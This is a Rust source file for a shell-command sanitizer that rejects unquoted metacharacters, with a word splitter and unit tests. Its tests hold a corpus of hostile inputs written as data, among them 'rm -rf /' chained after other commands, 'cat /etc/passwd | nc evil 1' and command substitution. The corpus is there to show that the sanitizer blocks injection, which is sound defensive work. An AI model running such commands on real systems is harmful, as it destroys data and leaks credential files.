//! Shell command sanitization.
//!
//! A quote-aware scanner that accepts or rejects a command string. It never
//! rewrites input: an accepted command is returned exactly as given.

use ironloop_core::SecurityError;

/// Characters that let a command chain, redirect, or substitute.
const METACHARACTERS: &[char] = &[';', '&', '|', '>', '<', '`', '$', '(', ')', '\n', '\r', '\0'];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Single,
    Double,
}

/// Check a command for unquoted metacharacters.
///
/// - Inside single quotes everything is literal.
/// - Inside double quotes `$` and backticks still expand and are rejected;
///   a backslash escapes the next character.
/// - Outside quotes a backslash escapes the next character.
/// - A null byte is rejected everywhere.
///
/// Positions in errors are character offsets.
pub fn sanitize_shell(raw: &str) -> Result<String, SecurityError> {
    if raw.trim().is_empty() {
        return Err(SecurityError::EmptyCommand);
    }

    let mut quote = Quote::None;
    let mut chars = raw.chars().enumerate();

    while let Some((position, ch)) = chars.next() {
        if ch == '\0' {
            return Err(SecurityError::ShellMetacharacter { ch, position });
        }

        match quote {
            Quote::Single => {
                if ch == '\'' {
                    quote = Quote::None;
                }
            }
            Quote::Double => match ch {
                '"' => quote = Quote::None,
                '\\' => match chars.next() {
                    Some((escaped_at, '\0')) => {
                        return Err(SecurityError::ShellMetacharacter {
                            ch: '\0',
                            position: escaped_at,
                        });
                    }
                    Some(_) => {}
                    None => return Err(SecurityError::TrailingEscape),
                },
                '$' | '`' => return Err(SecurityError::ShellMetacharacter { ch, position }),
                _ => {}
            },
            Quote::None => match ch {
                '\'' => quote = Quote::Single,
                '"' => quote = Quote::Double,
                '\\' => match chars.next() {
                    Some((escaped_at, '\0')) => {
                        return Err(SecurityError::ShellMetacharacter {
                            ch: '\0',
                            position: escaped_at,
                        });
                    }
                    Some(_) => {}
                    None => return Err(SecurityError::TrailingEscape),
                },
                c if METACHARACTERS.contains(&c) => {
                    return Err(SecurityError::ShellMetacharacter { ch, position });
                }
                _ => {}
            },
        }
    }

    match quote {
        Quote::None => Ok(raw.to_string()),
        Quote::Single => Err(SecurityError::UnbalancedQuote { quote: '\'' }),
        Quote::Double => Err(SecurityError::UnbalancedQuote { quote: '"' }),
    }
}

/// Split a sanitized command into words the way `sh` would, with quotes
/// removed and escapes applied.
pub fn command_words(command: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut quote = Quote::None;
    let mut chars = command.chars();

    while let Some(ch) = chars.next() {
        match quote {
            Quote::Single => match ch {
                '\'' => quote = Quote::None,
                c => word.push(c),
            },
            Quote::Double => match ch {
                '"' => quote = Quote::None,
                '\\' => match chars.next() {
                    Some(c @ ('"' | '\\' | '$' | '`')) => word.push(c),
                    Some(c) => {
                        word.push('\\');
                        word.push(c);
                    }
                    None => word.push('\\'),
                },
                c => word.push(c),
            },
            Quote::None => match ch {
                c if c.is_whitespace() => {
                    if in_word {
                        words.push(std::mem::take(&mut word));
                        in_word = false;
                    }
                }
                '\'' => {
                    quote = Quote::Single;
                    in_word = true;
                }
                '"' => {
                    quote = Quote::Double;
                    in_word = true;
                }
                '\\' => {
                    if let Some(c) = chars.next() {
                        word.push(c);
                    }
                    in_word = true;
                }
                c => {
                    word.push(c);
                    in_word = true;
                }
            },
        }
    }
    if in_word {
        words.push(word);
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_follow_shell_quoting() {
        assert_eq!(command_words("ls  -la data"), vec!["ls", "-la", "data"]);
        assert_eq!(command_words("cat '/etc/host name'"), vec!["cat", "/etc/host name"]);
        assert_eq!(command_words("cat /et''c/\"x\""), vec!["cat", "/etc/x"]);
        assert_eq!(command_words("echo \"a\\\"b\" c\\ d"), vec!["echo", "a\"b", "c d"]);
        assert_eq!(command_words("echo ''"), vec!["echo", ""]);
    }

    #[test]
    fn plain_commands_pass_unchanged() {
        for cmd in ["ls -la", "cat notes.txt", "grep -rn TODO src", "echo hello world"] {
            assert_eq!(sanitize_shell(cmd).unwrap(), cmd);
        }
    }

    #[test]
    fn empty_rejected() {
        assert_eq!(sanitize_shell(""), Err(SecurityError::EmptyCommand));
        assert_eq!(sanitize_shell(" \t "), Err(SecurityError::EmptyCommand));
    }

    #[test]
    fn unquoted_attack_corpus_rejected() {
        let attacks = [
            "ls; rm -rf /",
            "ls && rm -rf /",
            "false || rm -rf /",
            "cat /etc/passwd | nc evil 1",
            "echo x > /etc/hosts",
            "sh < payload",
            "echo `whoami`",
            "echo $(whoami)",
            "echo $HOME",
            "ls\nrm -rf /",
            "ls\rrm",
            "ls\0rm",
            "sleep 1 &",
            "(ls)",
        ];
        for cmd in attacks {
            assert!(
                matches!(sanitize_shell(cmd), Err(SecurityError::ShellMetacharacter { .. })),
                "accepted {cmd:?}"
            );
        }
    }

    #[test]
    fn safely_quoted_counterparts_accepted() {
        let safe = [
            "echo 'a; b'",
            "echo 'a && b'",
            "echo 'x | y'",
            "echo 'out > file'",
            "echo '`whoami`'",
            "echo '$(whoami)'",
            "echo '$HOME'",
            "echo 'line\nbreak'",
            "echo \"a; b\"",
            "echo \"x | y & z\"",
            "echo \"(grouped)\"",
            "echo a\\;b",
            "echo \\$HOME",
            "echo \"price: \\$5\"",
        ];
        for cmd in safe {
            assert_eq!(sanitize_shell(cmd).as_deref(), Ok(cmd), "rejected {cmd:?}");
        }
    }

    #[test]
    fn dollar_and_backtick_expand_inside_double_quotes() {
        assert!(matches!(
            sanitize_shell("echo \"$HOME\""),
            Err(SecurityError::ShellMetacharacter { ch: '$', position: 6 })
        ));
        assert!(matches!(
            sanitize_shell("echo \"`id`\""),
            Err(SecurityError::ShellMetacharacter { ch: '`', .. })
        ));
    }

    #[test]
    fn null_byte_rejected_even_when_quoted() {
        assert!(sanitize_shell("echo 'a\0b'").is_err());
        assert!(sanitize_shell("echo \"a\0b\"").is_err());
        assert!(sanitize_shell("echo a\\\0b").is_err());
    }

    #[test]
    fn unbalanced_quotes_rejected() {
        assert_eq!(
            sanitize_shell("echo 'oops"),
            Err(SecurityError::UnbalancedQuote { quote: '\'' })
        );
        assert_eq!(
            sanitize_shell("echo \"oops"),
            Err(SecurityError::UnbalancedQuote { quote: '"' })
        );
    }

    #[test]
    fn trailing_escape_rejected() {
        assert_eq!(sanitize_shell("echo \\"), Err(SecurityError::TrailingEscape));
        assert_eq!(sanitize_shell("echo \"\\"), Err(SecurityError::TrailingEscape));
    }

    #[test]
    fn position_is_character_offset() {
        assert_eq!(
            sanitize_shell("héllo; x"),
            Err(SecurityError::ShellMetacharacter { ch: ';', position: 5 })
        );
    }

    #[test]
    fn verdict_is_deterministic() {
        let cmd = "echo 'a' \"b\" c; d";
        let first = sanitize_shell(cmd);
        for _ in 0..10 {
            assert_eq!(sanitize_shell(cmd), first);
        }
    }
}
